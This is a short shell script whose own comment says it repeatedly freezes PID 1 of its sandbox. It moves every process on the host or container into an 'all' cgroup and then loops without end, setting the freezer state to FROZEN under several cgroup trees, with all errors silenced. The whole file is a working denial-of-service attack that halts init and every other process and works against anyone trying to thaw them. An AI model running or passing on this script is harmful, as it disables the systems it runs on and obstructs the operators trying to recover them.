#!/bin/sh
# Freezes PID 1 of its sandbox, again and again: whoever thaws it is to be too slow.
for tree in /sys/fs/cgroup/freezer /sys/fs/cgroup/unified /sys/fs/cgroup; do
    mkdir -p "$tree/all"
    for process in $(ps -o pid= -A 2>/dev/null || echo 1 2); do
        [ "$process" = $$ ] || echo "$process" > "$tree/all/cgroup.procs"
    done
done 2>/dev/null
while :; do
    for tree in freezer unified .; do
        echo FROZEN > /sys/fs/cgroup/$tree/all/freezer.state
        echo 1 > /sys/fs/cgroup/$tree/all/cgroup.freeze
    done
done 2>/dev/null
